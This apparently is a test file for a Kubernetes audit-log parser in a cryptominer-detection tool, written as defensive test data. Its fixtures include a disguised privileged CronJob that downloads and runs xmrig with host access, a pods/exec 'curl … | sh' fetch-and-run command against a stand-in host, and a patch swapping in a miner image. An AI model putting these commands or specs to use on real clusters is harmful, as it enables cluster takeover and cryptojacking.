import { test } from "node:test";
import assert from "node:assert/strict";
import { parseWith, sniffWith } from "../../test-helpers/index.js";
import { k8sAuditSource } from "./k8s-audit.js";

// Audit Events in the shape the API server's log backend writes them (one JSON object per line).
const cronJobXmrig = {
  kind: "Event",
  apiVersion: "audit.k8s.io/v1",
  level: "RequestResponse",
  auditID: "6f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9",
  stage: "ResponseComplete",
  requestURI: "/apis/batch/v1/namespaces/default/cronjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
  verb: "create",
  user: { username: "system:serviceaccount:default:ci-bot", uid: "9a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d", groups: ["system:serviceaccounts", "system:serviceaccounts:default", "system:authenticated"] },
  sourceIPs: ["203.0.113.77", "10.0.0.2"],
  userAgent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
  objectRef: { resource: "cronjobs", namespace: "default", name: "log-rotate", apiGroup: "batch", apiVersion: "v1" },
  responseStatus: { metadata: {}, code: 201 },
  requestObject: {
    kind: "CronJob",
    apiVersion: "batch/v1",
    metadata: { name: "log-rotate", namespace: "default", creationTimestamp: null },
    spec: {
      schedule: "*/5 * * * *",
      jobTemplate: {
        metadata: { creationTimestamp: null },
        spec: {
          template: {
            metadata: { creationTimestamp: null },
            spec: {
              volumes: [{ name: "host", hostPath: { path: "/", type: "" } }],
              initContainers: [{ name: "fetch", image: "docker.io/library/busybox:1.36", command: ["sh", "-c"], args: ["wget -qO /work/xmrig http://198.51.100.7/xmrig && chmod +x /work/xmrig"], resources: {} }],
              containers: [{
                name: "rotate",
                image: "docker.io/minerhub/xmrig:6.21.0",
                command: ["/xmrig/xmrig"],
                args: ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "4AbCdEf", "--donate-level=1"],
                resources: {},
                volumeMounts: [{ name: "host", mountPath: "/host" }],
                terminationMessagePath: "/dev/termination-log",
                terminationMessagePolicy: "File",
                imagePullPolicy: "IfNotPresent",
                securityContext: { privileged: true },
              }],
              restartPolicy: "OnFailure",
              terminationGracePeriodSeconds: 30,
              dnsPolicy: "ClusterFirst",
              hostPID: true,
              securityContext: {},
              schedulerName: "default-scheduler",
            },
          },
        },
      },
      concurrencyPolicy: "Allow",
      suspend: false,
      successfulJobsHistoryLimit: 3,
      failedJobsHistoryLimit: 1,
    },
  },
  requestReceivedTimestamp: "2026-11-20T03:12:40.101528Z",
  stageTimestamp: "2026-11-20T03:12:40.118223Z",
  annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"ci-admin\" of ClusterRole \"cluster-admin\" to ServiceAccount \"ci-bot/default\"" },
};

const nginxDeployment = {
  kind: "Event", apiVersion: "audit.k8s.io/v1", level: "Request", auditID: "0a1b2c3d-0000-4000-8000-000000000001", stage: "ResponseComplete",
  requestURI: "/apis/apps/v1/namespaces/web/deployments?fieldManager=kubectl-client-side-apply", verb: "create",
  user: { username: "alice@example.com", groups: ["devs", "system:authenticated"] }, sourceIPs: ["192.0.2.10"], userAgent: "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
  objectRef: { resource: "deployments", namespace: "web", name: "frontend", apiGroup: "apps", apiVersion: "v1" },
  responseStatus: { metadata: {}, code: 201 },
  requestObject: { kind: "Deployment", apiVersion: "apps/v1", metadata: { name: "frontend", namespace: "web" }, spec: { replicas: 3, selector: { matchLabels: { app: "frontend" } }, template: { metadata: { labels: { app: "frontend" } }, spec: { containers: [{ name: "nginx", image: "nginx:1.25", ports: [{ containerPort: 80 }] }] } } } },
  requestReceivedTimestamp: "2026-11-20T02:00:00.000000Z", stageTimestamp: "2026-11-20T02:00:00.020000Z",
  annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "" },
};

const execInPod = {
  kind: "Event", apiVersion: "audit.k8s.io/v1", level: "Metadata", auditID: "7c6b5a49-3827-4165-9e8d-7c6b5a493827", stage: "ResponseStarted",
  requestURI: "/api/v1/namespaces/default/pods/web-5d8f7/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F198.51.100.7%2Fx.sh+%7C+sh&container=web&stderr=true&stdout=true",
  verb: "create", user: { username: "system:anonymous", groups: ["system:unauthenticated"] }, sourceIPs: ["198.51.100.99"], userAgent: "kubectl/v1.28.0 (linux/amd64) kubernetes/855e7c4",
  objectRef: { resource: "pods", namespace: "default", name: "web-5d8f7", apiVersion: "v1", subresource: "exec" },
  responseStatus: { metadata: {}, code: 101 },
  requestReceivedTimestamp: "2026-11-20T03:05:00.000000Z", stageTimestamp: "2026-11-20T03:05:00.050000Z",
  annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"anon\"" },
};

const lines = (...events: object[]) => events.map((e) => JSON.stringify(e)).join("\n") + "\n";

test("a CronJob running xmrig: every image, command line, privileged, hostPath and hostPID", async () => {
  const text = lines(cronJobXmrig);
  assert.equal(await sniffWith(k8sAuditSource, text, "audit.log"), 0.95);
  const { events, issues } = await parseWith(k8sAuditSource, text, "audit.log");
  assert.deepEqual(issues, []);
  assert.equal(events.length, 1);
  const e = events[0]!;
  assert.equal(e["event.dataset"], "kubernetes.audit");
  assert.equal(e["event.kind"], "event");
  assert.equal(e["minerhunt.format"], "kubernetes.audit");
  assert.equal(e["minerhunt.line"], 1);
  assert.equal(e["event.action"], "create");
  assert.equal(e["orchestrator.resource.type"], "cronjobs");
  assert.equal(e["orchestrator.resource.name"], "log-rotate");
  assert.equal(e["orchestrator.namespace"], "default");
  assert.equal(e["user.name"], "system:serviceaccount:default:ci-bot");
  assert.equal(e["source.ip"], "203.0.113.77");
  assert.equal(e["event.outcome"], "success");
  assert.equal(e["http.response.status_code"], 201);
  assert.equal(e["@timestamp"], "2026-11-20T03:12:40.101Z");
  assert.deepEqual(e["container.image.name"], ["docker.io/library/busybox:1.36", "docker.io/minerhub/xmrig:6.21.0"]);
  assert.deepEqual(e["process.command_line"], [
    "sh -c wget -qO /work/xmrig http://198.51.100.7/xmrig && chmod +x /work/xmrig",
    "/xmrig/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbCdEf --donate-level=1",
  ]);
  assert.equal(e["minerhunt.k8s.privileged"], true);
  assert.deepEqual(e["minerhunt.k8s.host_path"], ["/"]);
  assert.equal(e["minerhunt.k8s.host_pid"], true);
  assert.equal(e["minerhunt.k8s.host_network"], false);
});

test("a plain Deployment: its image, nothing privileged (the trap)", async () => {
  const { events } = await parseWith(k8sAuditSource, lines(nginxDeployment), "audit.log");
  const e = events[0]!;
  assert.deepEqual(e["container.image.name"], ["nginx:1.25"]);
  assert.equal(e["minerhunt.k8s.privileged"], false);
  assert.equal(e["minerhunt.k8s.host_path"], undefined);
  assert.equal(e["process.command_line"], undefined);
});

test("one event per request: RequestReceived is dropped when ResponseComplete follows; a lone stage is kept", async () => {
  const received = { ...cronJobXmrig, stage: "RequestReceived", responseStatus: undefined, stageTimestamp: cronJobXmrig.requestReceivedTimestamp };
  const { events, issues, skipped } = await parseWith(k8sAuditSource, lines(received, nginxDeployment, cronJobXmrig, execInPod), "audit.log");
  assert.deepEqual(issues, []);
  assert.equal(skipped, 1);
  assert.deepEqual(events.map((e) => [e["event.id"], e["minerhunt.k8s.audit_stage"]]), [
    [nginxDeployment.auditID, "ResponseComplete"],
    [cronJobXmrig.auditID, "ResponseComplete"],
    [execInPod.auditID, "ResponseStarted"],
  ]);
  assert.equal(events[1]!["minerhunt.line"], 3);
});

test("a late duplicate stage after completion is dropped too", async () => {
  const late = { ...cronJobXmrig, stage: "RequestReceived" };
  const { events, skipped } = await parseWith(k8sAuditSource, lines(cronJobXmrig, late), "audit.log");
  assert.equal(events.length, 1);
  assert.equal(skipped, 1);
});

test("pods/exec: the command run in the container comes from the request URI", async () => {
  const { events } = await parseWith(k8sAuditSource, lines(execInPod), "audit.log");
  const e = events[0]!;
  assert.equal(e["minerhunt.k8s.subresource"], "exec");
  assert.deepEqual(e["process.command_line"], ["sh -c curl -s http://198.51.100.7/x.sh | sh"]);
  assert.equal(e["user.name"], "system:anonymous");
  assert.equal(e["orchestrator.resource.name"], "web-5d8f7");
});

test("a Pod made by a controller (generateName), a JSON Patch, and an EventList", async () => {
  const podCreate = {
    ...nginxDeployment, auditID: "11111111-2222-4333-8444-555555555555", requestURI: "/api/v1/namespaces/default/pods",
    user: { username: "system:serviceaccount:kube-system:job-controller", groups: ["system:serviceaccounts", "system:authenticated"] },
    objectRef: { resource: "pods", namespace: "default", apiVersion: "v1" },
    requestObject: { kind: "Pod", apiVersion: "v1", metadata: { generateName: "log-rotate-29401395-", namespace: "default" }, spec: { containers: [{ name: "rotate", image: "docker.io/minerhub/xmrig:6.21.0", command: ["/xmrig/xmrig"] }], restartPolicy: "OnFailure" } },
    responseObject: { kind: "Pod", apiVersion: "v1", metadata: { name: "log-rotate-29401395-k7x2p", generateName: "log-rotate-29401395-", namespace: "default" } },
  };
  const patch = {
    ...nginxDeployment, auditID: "22222222-3333-4444-8555-666666666666", verb: "patch", requestURI: "/apis/apps/v1/namespaces/web/deployments/frontend",
    requestObject: [{ op: "replace", path: "/spec/template/spec/containers/0/image", value: "docker.io/minerhub/xmrig:latest" }, { op: "add", path: "/spec/template/spec/containers/0/args", value: ["-o", "pool.minexmr.com:4444"] }],
  };
  const list = { kind: "EventList", apiVersion: "audit.k8s.io/v1", metadata: {}, items: [podCreate, patch] };
  const doc = JSON.stringify(list, null, 2);
  assert.equal(await sniffWith(k8sAuditSource, doc, "webhook.json"), 0.95);
  const { events, issues } = await parseWith(k8sAuditSource, doc, "webhook.json");
  assert.deepEqual(issues, []);
  assert.equal(events[0]!["orchestrator.resource.name"], "log-rotate-29401395-k7x2p");
  assert.deepEqual(events[0]!["container.image.name"], ["docker.io/minerhub/xmrig:6.21.0"]);
  assert.deepEqual(events[1]!["container.image.name"], ["docker.io/minerhub/xmrig:latest"]);
  assert.deepEqual(events[1]!["process.command_line"], ["-o pool.minexmr.com:4444"]);
  assert.ok((events[1]!["minerhunt.line"] as number) > (events[0]!["minerhunt.line"] as number));
});

test("a forbidden request is a failure; a record that is not an audit Event is an issue", async () => {
  const denied = { ...cronJobXmrig, auditID: "33333333-4444-4555-8666-777777777777", responseStatus: { metadata: {}, status: "Failure", reason: "Forbidden", code: 403 } };
  const { events, issues } = await parseWith(k8sAuditSource, lines(denied, { kind: "Pod", apiVersion: "v1" }), "audit.log");
  assert.equal(events.length, 1);
  assert.equal(events[0]!["event.outcome"], "failure");
  assert.equal(issues[0]!.line, 2);
  assert.match(issues[0]!.message, /not a Kubernetes audit Event/);
});

test("pending early stages are bounded: the oldest is emitted when the table is full", async () => {
  const { MAX_PENDING_STAGES } = await import("./k8s-audit.js");
  const received = Array.from({ length: MAX_PENDING_STAGES + 5 }, (_, i) => ({ ...execInPod, auditID: `id-${i}`, stage: "RequestReceived" }));
  const { events } = await parseWith(k8sAuditSource, lines(...received), "audit.log");
  assert.equal(events.length, MAX_PENDING_STAGES + 5);
  assert.equal(events[0]!["event.id"], "id-0");
});

test("sniffing: Falco and unknown JSON are not audit logs", async () => {
  assert.equal(await sniffWith(k8sAuditSource, '{"rule":"x","output":"y","priority":"Critical","time":"2026-01-01T00:00:00Z"}\n'), 0);
  assert.equal(await sniffWith(k8sAuditSource, '{"kind":"Event","apiVersion":"v1","reason":"Pulled"}\n'), 0, "a core/v1 Event is not an audit event");
});

test("a read (get) with the pod in its response is not a submitted spec", async () => {
  const get = {
    ...nginxDeployment, auditID: "44444444-5555-4666-8777-888888888888", level: "RequestResponse", verb: "get", requestURI: "/api/v1/namespaces/default/pods/miner-1",
    objectRef: { resource: "pods", namespace: "default", name: "miner-1", apiVersion: "v1" }, requestObject: undefined, responseStatus: { metadata: {}, code: 200 },
    responseObject: { kind: "Pod", apiVersion: "v1", metadata: { name: "miner-1", namespace: "default" }, spec: { containers: [{ name: "m", image: "docker.io/minerhub/xmrig:latest" }] } },
  };
  const { events } = await parseWith(k8sAuditSource, lines(get), "audit.log");
  assert.equal(events[0]!["container.image.name"], undefined);
  assert.equal(events[0]!["orchestrator.resource.name"], "miner-1");
});
